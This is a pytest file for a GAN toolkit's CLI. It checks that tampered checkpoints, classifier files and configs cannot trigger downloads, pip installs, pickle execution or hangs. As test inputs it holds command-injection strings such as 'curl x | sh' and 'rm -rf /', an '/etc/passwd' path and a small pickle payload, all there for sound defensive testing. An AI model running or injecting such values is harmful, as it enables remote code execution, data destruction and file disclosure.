"""Hostile files and careless numbers: what a checkpoint, directions file, classifier or config says never chooses
what the program does beyond its own tensors, nothing hangs, and every refusal is one line naming the real cause.

Each test is the attack or the mistake a user would make, through the real CLI: exit code 2 and one `error:` line on
stderr, no traceback, and nothing created, changed or downloaded on disk.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from safetensors import safe_open
from safetensors.torch import load_file, save_file
from typer.testing import CliRunner

from tests.conftest import TINY_DCGAN

pytestmark = pytest.mark.usefixtures("one_thread")


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    """A finished tiny conditional run (4 steps, checkpoints at 2 and 4), its directions and an 8x8 classifier."""
    from gantoolkit.cli import build_app
    from gantoolkit.registry import reset_registry

    reset_registry()
    torch.set_num_threads(1)
    root = tmp_path_factory.mktemp("hostile")

    def gantool(*args) -> None:
        result = CliRunner().invoke(build_app(), [str(a) for a in args])
        assert result.exit_code == 0, result.output

    gantool("train", *TINY_DCGAN, "--cond", "onehot", "--image-size", "8", "--steps", "4", "--checkpoint-every", "2",
            "--out", root / "run")
    gantool("directions", root / "run", "--method", "sefa", "--num", "2", "--out", root / "dirs.safetensors")
    gantool("classifier", "train", "--image-size", "8", "--epochs", "1", "--out", root / "clf8.safetensors")
    return root


@pytest.fixture
def work(made, tmp_path, monkeypatch) -> Path:
    """The made files copied into the test's working directory."""
    shutil.copytree(made, tmp_path, dirs_exist_ok=True, copy_function=shutil.copy2)
    monkeypatch.chdir(tmp_path)
    return tmp_path


CKPT = Path("run/checkpoints/step-00000004.safetensors")


def metadata(path: Path) -> dict[str, str]:
    with safe_open(str(path), framework="pt") as fh:
        return dict(fh.metadata())


def rewrite(source: Path, target: Path, config: dict | None = None, tensors: dict | None = None,
            **meta: str) -> Path:
    """A copy of a safetensors file with changed metadata, saved configuration entries or tensors."""
    saved = metadata(source)
    if config is not None:
        saved["config"] = json.dumps({**json.loads(saved["config"]), **config})
    saved.update(meta)
    target.parent.mkdir(parents=True, exist_ok=True)
    save_file(tensors if tensors is not None else load_file(str(source)), str(target), metadata=saved)
    return target


def snapshot(root: Path) -> dict[str, tuple]:
    out = {}
    for path in sorted(root.rglob("*")):
        if path.is_symlink() or not (path.is_file() or path.is_dir()):
            out[str(path.relative_to(root))] = ("special", os.lstat(path).st_mtime_ns)
            continue
        digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "dir"
        out[str(path.relative_to(root))] = (path.stat().st_mtime_ns, digest)
    return out


def refused(result, message: str, code: int = 2) -> str:
    """The one error line of a refused command (exit `code`, no traceback), checked to contain `message`."""
    lines = result.stderr.splitlines()
    assert result.exit_code == code, result.output
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert "Traceback" not in result.output and "unexpected" not in lines[0], lines[0]
    assert message in lines[0], lines[0]
    return lines[0]


def no_download(monkeypatch) -> list[str]:
    """Every download function of the built-in datasets fails the test if called; returns the calls."""
    import torchvision.datasets

    from gantoolkit.builtin.datasets import cifar

    calls: list[str] = []

    def forbidden(*args, **kwargs):
        calls.append("download")
        raise AssertionError("a download was attempted")

    monkeypatch.setattr(cifar, "_download", forbidden)
    for name in ("MNIST", "FashionMNIST"):
        monkeypatch.setattr(getattr(torchvision.datasets, name), "download", forbidden)
    return calls


# -- 1. a file never chooses paths or actions -------------------------------------------------------------------


@pytest.mark.parametrize("data", ["mnist", "fashion-mnist", "cifar10"])
def test_a_checkpoint_asking_to_download_into_its_own_folder_is_not_obeyed(cli, work, monkeypatch, data):
    """The saved config says download=true into a folder of the file's choosing: neither evaluate nor resume
    downloads or creates anything; they look for the data where the command line says (its default here)."""
    calls = no_download(monkeypatch)
    target = work / "elsewhere" / "evil-root"
    rewrite(CKPT, work / "dl" / "checkpoints" / "step-00000004.safetensors",
            config={"data": {"name": data, "options": {}}, "download": True, "data_root": str(target)})
    before = snapshot(work)
    for args in (["evaluate", "dl", "--metrics", "nn", "--out", "r.json"], ["train", "--resume", "dl", "--steps", "8"],
                 ["sample", "dl", "--sampler", "drs", "--critic-steps", "2", "--out", "x.png"]):
        line = refused(cli(*args), "not found in data")
        assert "evil-root" not in line and "download" in line  # the hint says how to ask for it
    assert calls == [] and not target.parent.exists()
    assert snapshot(work) == before


def test_download_and_data_root_still_come_from_the_command_line_on_resume(cli, work, monkeypatch):
    import torchvision.datasets

    asked: list[str] = []

    def offline(self, *args, **kwargs):
        asked.append(str(self.root))
        raise RuntimeError("network is off")

    monkeypatch.setattr(torchvision.datasets.MNIST, "download", offline)
    rewrite(CKPT, work / "dl" / "checkpoints" / "step-00000004.safetensors",
            config={"data": {"name": "mnist", "options": {}}, "download": False, "data_root": "saved-root"})
    refused(cli("train", "--resume", "dl", "--steps", "8", "--download", "--data-root", "mine"),
            "could not download MNIST into mine")
    assert asked == ["mine"] and not (work / "saved-root").exists()


def test_a_checkpoint_naming_a_distribution_says_the_name_is_its_claim(cli, work):
    saved = metadata(CKPT)
    components = json.loads(saved["components"])
    for distribution, offered in (("os", True), ("evil; curl x | sh", False), ("-e git+https://x", False),
                                  ("a" * 300, False), ("ok-name", True)):
        components["arch"] = {"name": "os:system", "plugin": "x", "distribution": distribution, "version": "1.0"}
        path = rewrite(CKPT, work / "claims.safetensors", config={"arch": {"name": "os:system", "options": {}}},
                       components=json.dumps(components))
        line = refused(cli("sample", path, "--out", "x.png"), "os:system")
        if offered:
            assert f"the checkpoint says it was made with the plugin distribution {distribution} 1.0" in line
            assert line.endswith(f"pip install {distribution})")
        else:
            assert "pip install" not in line and distribution not in line
    components["arch"]["distribution"], components["arch"]["version"] = "fine", "1.0; rm -rf /"
    path = rewrite(CKPT, work / "claims.safetensors", config={"arch": {"name": "os:system", "options": {}}},
                   components=json.dumps(components))
    assert "pip install" not in refused(cli("sample", path, "--out", "x.png"), "os:system")


def classifier_meta(path: Path, **changes) -> Path:
    saved = metadata(Path("clf8.safetensors"))
    info = {**json.loads(saved["classifier"]), **changes}
    return rewrite(Path("clf8.safetensors"), path, classifier=json.dumps(info))


@pytest.mark.parametrize("kwargs, message", [
    ({"checkpoint_path": "/etc/passwd"}, "timm option 'checkpoint_path' is not one gantoolkit passes on"),
    ({"pretrained_cfg_overlay": {"file": "x.pth"}}, "timm option 'pretrained_cfg_overlay'"),
    ({"pretrained": True}, "timm option 'pretrained'"),
    ({"drop_rate": "0.1; import os"}, "timm option drop_rate='0.1; import os' must be a number in [0, 1)"),
    ({"output_stride": 10**9}, "output_stride"),
    ("not a table", "timm options are not a table"),
])
def test_a_classifier_file_cannot_hand_timm_options_of_its_own(cli, work, kwargs, message):
    evil = classifier_meta(work / "evil-clf.safetensors", backbone_kwargs=kwargs)
    before = snapshot(work)
    for args in (["classifier", "info", evil], ["edit", "run", "--classifier", evil, "--target", "1", "--out", "e.png"],
                 ["evaluate", "run", "--features", f"classifier:{evil}", "--metrics", "fd", "--out", "r.json"]):
        refused(cli(*args), message)
    assert snapshot(work) == before


def test_the_command_line_is_held_to_the_same_timm_options(cli, work):
    refused(cli("classifier", "train", "--image-size", "8", "--backbone-opt", "checkpoint_path=x.pth", "--out",
                "c.safetensors"), "--backbone-opt: timm option 'checkpoint_path' is not one gantoolkit passes on")
    assert not Path("c.safetensors").exists()


# -- 3. nothing hangs ---------------------------------------------------------------------------------------------

FIFO_DRIVER = """
import json, sys
from typer.testing import CliRunner
from gantoolkit.cli import build_app

results = {}
for name, args in json.loads(sys.argv[1]).items():
    result = CliRunner().invoke(build_app(), args)
    results[name] = [result.exit_code, result.stderr.strip()]
print(json.dumps(results))
"""


def gantool_process(args: list[str], cwd: Path, timeout: float = 120) -> subprocess.CompletedProcess:
    """`gantool ARGS` in its own process; a hang fails the test (the process is killed at the timeout)."""
    env = {**os.environ, "GANTOOL_DISABLE_PLUGIN_AUTOLOAD": "1", "OMP_NUM_THREADS": "1"}
    return subprocess.run(args, cwd=cwd, env=env, capture_output=True, text=True, timeout=timeout)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
@pytest.mark.process
def test_a_named_pipe_given_as_a_checkpoint_is_refused_without_waiting_for_a_writer(work):
    os.mkfifo(work / "pipe.safetensors")
    out = gantool_process([shutil.which("gantool") or "gantool", "info", "pipe.safetensors"], work)
    assert out.returncode == 2, out.stderr
    assert out.stderr.splitlines() == ["error: cannot read checkpoint 'pipe.safetensors': it is a named pipe (FIFO), "
                                       "not a regular file (only gantoolkit safetensors checkpoints can be used)"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
@pytest.mark.process
def test_no_reader_of_a_user_file_blocks_on_a_pipe_or_reads_a_device(work):
    """Every kind of file a command reads, given as a FIFO (which would block forever) or /dev/zero (endless)."""
    os.mkfifo(work / "pipe")
    (work / "pics").mkdir()
    for i in range(3):
        rewrite_png(work / "pics" / f"{i}.png", i)
    os.mkfifo(work / "pics" / "stuck.png")
    commands = {}
    for what in ("pipe", "/dev/zero"):
        commands.update({
            f"sample {what}": ["sample", what, "--out", "x.png"],
            f"resume-config {what}": ["train", "--config", what],
            f"directions {what}": ["sample", "run", "--direction", f"{what}:sefa0", "--out", "x.png"],
            f"classifier {what}": ["classifier", "info", what],
            f"edit {what}": ["edit", "run", "--classifier", what, "--target", "1", "--out", "e.png"],
            f"inception {what}": ["evaluate", "run", "--features", f"inception:{what}", "--metrics", "fd", "--out",
                                  "r.json"],
            f"demo {what}": ["demo", what],
        })
    commands["folder"] = ["train", *TINY_DCGAN, "--image-size", "8", "--steps", "2", "--data", "folder:pics",
                          "--out", "new"]
    env = {**os.environ, "GANTOOL_DISABLE_PLUGIN_AUTOLOAD": "1", "OMP_NUM_THREADS": "1"}
    before = snapshot(work)
    out = subprocess.run([sys.executable, "-c", FIFO_DRIVER, json.dumps(commands)], cwd=work, env=env,
                         capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    results = json.loads(out.stdout.strip().splitlines()[-1])
    for name, (code, stderr) in results.items():
        assert code == 2 and len(stderr.splitlines()) == 1 and stderr.startswith("error: "), (name, stderr)
        expected = "stuck.png in pics: it is a named pipe (FIFO)" if name == "folder" else \
            "is not a file" if name.startswith("inception") else \
            "it is a named pipe (FIFO), not a regular file" if "pipe" in name else "it is a character device"
        assert expected in stderr, (name, stderr)
    assert snapshot(work) == before


def rewrite_png(path: Path, seed: int) -> None:
    import numpy as np
    from PIL import Image

    path.parent.mkdir(parents=True, exist_ok=True)
    Image.fromarray(np.random.default_rng(seed).integers(0, 255, (8, 8), dtype=np.uint8)).save(path)


def test_a_dangling_symbolic_link_in_a_folder_is_an_unreadable_image_not_a_silent_gap(cli, work):
    for i in range(3):
        rewrite_png(work / "pics" / f"{i}.png", i)
    (work / "pics" / "gone.png").symlink_to(work / "nowhere.png")
    args = ["train", *TINY_DCGAN, "--image-size", "8", "--steps", "1", "--data", "folder:pics"]
    refused(cli(*args, "--out", "a"), "cannot read image gone.png in pics: it is a symbolic link to a missing file")
    assert not (work / "a").exists()
    skipped = cli(*args, "--on-bad-image", "skip", "--out", "b")
    assert skipped.exit_code == 0, skipped.output
    assert "warning: skipped 1 unreadable image(s) in pics (first: gone.png)" in skipped.stderr


def test_a_tiny_truncation_finishes_and_keeps_every_entry_inside_the_bound(work):
    from gantoolkit.sampling.generator import load_generator

    model = load_generator("run")
    for bound in (1e-30, 1e-3, 0.05):
        z = model.latents(500, seed=3, truncation=bound)
        assert z.shape == (500, model.latent_dim) and bool((z.abs() <= bound).all())
    # an ordinary truncation draws exactly the latents it always drew (seeds name the same samples as before)
    rng = torch.Generator().manual_seed(5)
    expected = torch.randn(64, model.latent_dim, generator=rng)
    outside = expected.abs() > 1.0
    while outside.any():
        expected[outside] = torch.randn(int(outside.sum()), generator=rng)
        outside = expected.abs() > 1.0
    assert torch.equal(model.latents(64, seed=5, truncation=1.0), expected)


@pytest.mark.process
def test_sample_with_an_absurdly_small_truncation_returns(work):
    out = gantool_process([shutil.which("gantool") or "gantool", "sample", "run", "--truncation", "1e-30", "--n", "16",
                           "--out", "t.png"], work)
    assert out.returncode == 0 and (work / "t.png").is_file(), out.stderr


@pytest.mark.parametrize("args, message", [
    (["train", *TINY_DCGAN, "--steps", str(10**29)],
     "--steps must be at most 1,000,000,000, got 100,000,000,000,000,000,000,000,000,000"),
    (["train", "--resume", "run", "--steps", str(10**12)], "--steps must be at most 1,000,000,000"),
    (["sample", "run", "--sampler", "drs", "--critic-steps", str(10**12), "--out", "x.png"],
     "--critic-steps must be at most 1,000,000"),
    (["sample", "run", "--sampler", "refine", "--refine-steps", str(10**12), "--out", "x.png"],
     "--refine-steps must be at most 1,000,000"),
    (["edit", "run", "--classifier", "clf8.safetensors", "--target", "1", "--steps", str(10**12), "--out", "e.png"],
     "--steps must be between 0 and 1,000,000"),
    (["classifier", "train", "--epochs", str(10**12), "--out", "c.safetensors"], "--epochs must be at most 1,000,000"),
])
def test_a_loop_driven_by_a_users_number_is_bounded(cli, work, args, message):
    before = snapshot(work)
    refused(cli(*args), message)
    assert snapshot(work) == before


# -- 5. every refusal names the real cause ------------------------------------------------------------------------


def test_a_batch_too_small_for_batchnorm_is_refused_before_the_run_directory_exists(cli, work):
    args = ["train", "--arch", "mlp", "--data", "toy:ring", "--latent-dim", "4", "--steps", "2"]
    refused(cli(*args, "--batch-size", "1", "--out", "r"),
            "the models cannot train on batches of 1: Expected more than 1 value per channel when training")
    assert not (work / "r").exists()
    retried = cli(*args, "--batch-size", "2", "--out", "r")  # the retry is not blocked by a leftover folder
    assert retried.exit_code == 0, retried.output
    rewrite_png(work / "one" / "a.png", 0)  # a dataset of one image: the batch is clamped to 1
    refused(cli("train", "--arch", "mlp", "--data", "folder:one", "--image-size", "8", "--steps", "1", "--out", "o"),
            "the models cannot train on batches of 1 (the data has 1 examples)")
    assert not (work / "o").exists()


def test_a_batch_larger_than_the_data_is_recorded_as_the_batch_used(cli, work):
    result = cli("train", *TINY_DCGAN[:-4], "--latent-dim", "16", "--image-size", "8", "--steps", "1",
                 "--batch-size", "100000", "--out", "big")
    assert result.exit_code == 0, result.output
    assert "--batch-size 100,000 is more than the 1,797 examples" in result.stderr
    assert "batch 1797" in result.stderr and "batch 100000" not in result.stderr
    from gantoolkit.files.checkpoint import load_checkpoint
    from gantoolkit.files.runs import resolve_checkpoint

    assert load_checkpoint(resolve_checkpoint(work / "big")).config.batch_size == 1797


def test_image_size_on_vector_data_is_refused(cli, work):
    refused(cli("train", "--arch", "mlp", "--data", "toy:ring", "--image-size", "16", "--steps", "1", "--out", "v"),
            "--image-size 16 applies to images, but 'toy:ring' holds 2 vectors (drop --image-size)")
    assert not (work / "v").exists()


def directions_file(path: Path, vectors: torch.Tensor | None = None, **changes) -> Path:
    saved = metadata(Path("dirs.safetensors"))
    for key, value in changes.items():
        saved[key] = json.dumps(value)
    tensors = {"directions": vectors} if vectors is not None else load_file("dirs.safetensors")
    save_file(tensors, str(path), metadata=saved)
    return path


@pytest.mark.parametrize("case, message", [
    ("wide", "are 8-dimensional, but this generator's latent size is 16"),
    ("nan", "the directions hold NaN or infinite values"),
    ("inf", "the directions hold NaN or infinite values"),
    ("category", "a categorical code 'c' beyond this generator's 0 code entries"),
    ("many", "directions need at most 4096 names"),
    ("range", "continuous_range"),
])
def test_directions_that_do_not_fit_the_generator_are_refused(cli, work, case, message):
    """The file copies the generator's identity (a hash anyone can read off the checkpoint), so its shapes are
    checked for what they are."""
    real = load_file("dirs.safetensors")["directions"]
    path = work / "bad-dirs.safetensors"
    if case == "wide":
        directions_file(path, torch.ones(2, 8))
    elif case in ("nan", "inf"):
        directions_file(path, torch.where(torch.arange(real.numel()).view_as(real) == 3,
                                          torch.tensor(math_value(case)), real))
    elif case == "category":
        directions_file(path, categorical=[{"name": "c", "size": 10**6, "offset": 0}])
    elif case == "many":
        directions_file(path, torch.zeros(5000, real.shape[1]), names=[f"d{i}" for i in range(5000)])
    else:
        directions_file(path, extra={"continuous_range": [float("nan"), 1e308]})
    before = snapshot(work)
    for args in (["sample", "run", "--direction", f"{path.name}:sefa0", "--out", "s.png"],
                 ["demo", "run", "--directions", path.name]):
        refused(cli(*args), message)
    assert snapshot(work) == before


def math_value(case: str) -> float:
    return float("nan") if case == "nan" else float("inf")


@pytest.mark.parametrize("changes, message", [
    ({"mean": [0.5, 0.5, 0.5]}, "normalisation mean [0.5, 0.5, 0.5] is not one finite number per channel (1)"),
    ({"std": [0.0]}, "normalisation std [0.0] is not positive"),
    ({"mean": ["nan"]}, "normalisation mean"),
    ({"num_classes": 10**9}, "1000000000 classes (a classifier has 1 to 100000)"),
    ({"input_shape": [1, 10**6, 10**6]}, "input shape [1, 1000000, 1000000] is not C×H×W"),
    ({"input_shape": [1, 8]}, "input shape [1, 8] is not C×H×W"),
    ({"resize_to": 10**7}, "resize_to 10000000 is not a side"),
    ({"class_names": ["a"]}, "10 classes need as many class names"),
])
def test_a_classifier_description_that_cannot_be_true_is_refused(cli, work, changes, message):
    evil = classifier_meta(work / "odd-clf.safetensors", **changes)
    edit = ["edit", "run", "--classifier", evil, "--target", "1", "--out", "e.png"]
    for args in (["classifier", "info", evil], edit):
        line = refused(cli(*args), message)
        assert "has damaged classifier metadata" in line


def test_a_classifier_made_for_other_data_is_refused_not_resized(cli, work):
    """An 8x8 digits classifier that says it reads 16x16 images (or the reverse) meets an 8x8 generator."""
    bigger = classifier_meta(work / "clf16.safetensors", input_shape=[1, 16, 16])
    before = snapshot(work)
    refused(cli("edit", "run", "--classifier", bigger, "--target", "1", "--out", "e.png"),
            "the classifier was trained on 1x16x16 images, but the generator makes 1x8x8")
    refused(cli("directions", "run", "--method", "classifier", "--classifier", bigger, "--out", "d.safetensors"),
            "the classifier was trained on 1x16x16 images")
    refused(cli("evaluate", "run", "--features", f"classifier:{bigger}", "--metrics", "classes", "--out", "r.json"),
            "the classifier was trained on 1x16x16 images, but the data is 1x8x8")
    refused(cli("demo", "run", "--classifier", bigger), "the classifier was trained on 1x16x16 images")
    assert snapshot(work) == before


@pytest.mark.parametrize("data, config, message", [
    ({"num_classes": 10**9, "class_names": []}, {}, "1,000,000,000 classes (at most 100,000)"),
    ({"shape": [3, 10**6, 10**6]}, {}, "entries, at most"),
    ({"shape": [10**4, 8, 8]}, {}, "at most 16 channels"),
    ({}, {"latent_dim": 10**12}, "a latent size of 1,000,000,000,000 (at most 65,536)"),
])
def test_a_checkpoint_claiming_absurd_sizes_is_refused_before_anything_is_allocated(cli, work, data, config, message):
    saved = metadata(CKPT)
    path = rewrite(CKPT, work / "claims.safetensors", config=config or None,
                   data=json.dumps({**json.loads(saved["data"]), **data}))
    for args in (["info", path], ["sample", path, "--out", "x.png"], ["demo", path]):
        line = refused(cli(*args), message)
        assert "has damaged metadata" in line and "out of memory" not in line


def poisoned(path: Path, prefixes: tuple[str, ...], value: float) -> Path:
    tensors = load_file(str(CKPT))
    for key in tensors:
        if key.startswith(prefixes) and tensors[key].is_floating_point():
            tensors[key] = torch.full_like(tensors[key], value)
    return rewrite(CKPT, path, tensors=tensors)


def test_nan_weights_in_a_checkpoint_are_refused_not_sampled(cli, work):
    bad = poisoned(work / "nan.safetensors", ("generator.", "ema."), float("nan"))
    critic = poisoned(work / "inf-critic.safetensors", ("critic.",), float("inf"))
    before = snapshot(work)
    for args in (["sample", bad, "--out", "x.png"], ["sample", bad, "--no-ema", "--out", "x.png"],
                 ["demo", bad], ["evaluate", bad, "--metrics", "nn", "--out", "r.json"],
                 ["directions", bad, "--method", "sefa", "--out", "d.safetensors"]):
        refused(cli(*args), "holds NaN or infinite generator weights")
    refused(cli("sample", critic, "--sampler", "drs", "--out", "x.png"), "holds NaN or infinite critic weights")
    assert snapshot(work) == before


def test_a_demo_host_that_is_no_address_is_named_not_blamed_on_the_port(cli, work):
    import socket

    refused(cli("demo", "run", "--host", "not a host"), "--host 'not a host' is not a host name or address")
    refused(cli("demo", "run", "--host", "192.0.2.1"), "--host '192.0.2.1' is not an address of this machine")
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        refused(cli("demo", "run", "--port", str(port)), f"port {port} on 127.0.0.1 is in use by another program")


def test_out_of_memory_is_one_line_and_exit_code_2(cli, work, monkeypatch):
    from gantoolkit.sampling.generator import LoadedGenerator

    def exhausted(self, *args, **kwargs):
        raise torch.OutOfMemoryError("CUDA out of memory. Tried to allocate 64.00 GiB")

    monkeypatch.setattr(LoadedGenerator, "generate", exhausted)
    refused(cli("sample", "run", "--n", "100000000", "--out", "x.png"),
            "out of memory (use a smaller --batch-size, --image-size, --n or model)")
    monkeypatch.setattr(LoadedGenerator, "generate", lambda self, *a, **k: (_ for _ in ()).throw(MemoryError()))
    refused(cli("sample", "run", "--out", "x.png"), "out of memory")
    assert not Path("x.png").exists()


@pytest.mark.parametrize("protocol", [0, 1])
def test_old_pickle_protocols_are_named_as_pickles(cli, work, protocol):
    import pickle

    marker = work / "EXECUTED"

    class Payload:
        def __reduce__(self):
            return (open, (str(marker), "w"))

    for name in ("old.safetensors", "old.pt", "old.toml"):
        (work / name).write_bytes(pickle.dumps(Payload(), protocol=protocol))
    refused(cli("info", "old.safetensors"), f"'old.safetensors' is a pickle file (protocol {protocol}); gantoolkit "
                                            "never unpickles files")
    refused(cli("sample", "run", "--direction", "old.pt:x", "--out", "x.png"), f"pickle file (protocol {protocol})")
    refused(cli("classifier", "info", "old.pt"), f"pickle file (protocol {protocol})")
    refused(cli("train", "--config", "old.toml"), f"'old.toml' is a pickle file (protocol {protocol}), not TOML")
    long = pickle.dumps({"weights": list(range(5000))}, protocol=protocol)  # longer than what is sniffed
    (work / "long.safetensors").write_bytes(long)
    refused(cli("info", "long.safetensors"), f"is a pickle file (protocol {protocol})")
    assert not marker.exists()


@pytest.mark.parametrize("text", [b"steps = 3\n", b"(just a note)\n", b"hello", b"\x89PNG\r\n\x1a\n" + b"\0" * 32])
def test_files_that_merely_look_odd_are_not_called_pickles(cli, work, text):
    (work / "odd.safetensors").write_bytes(text)
    line = refused(cli("info", "odd.safetensors"), "odd.safetensors")
    assert "pickle" not in line


@pytest.mark.parametrize("options, message", [
    ({"ngf": "8; import os"}, "option ngf expects int"),
    ({"ngf": 8, "ndf": 8, "checkpoint_path": "/etc/passwd"}, "has no option 'checkpoint_path'"),
])
def test_component_options_in_a_checkpoint_are_typed_by_the_factory(cli, work, options, message):
    path = rewrite(CKPT, work / "opts.safetensors", config={"arch": {"name": "dcgan", "options": options}})
    for args in (["sample", path, "--out", "x.png"], ["demo", path]):
        refused(cli(*args), message)
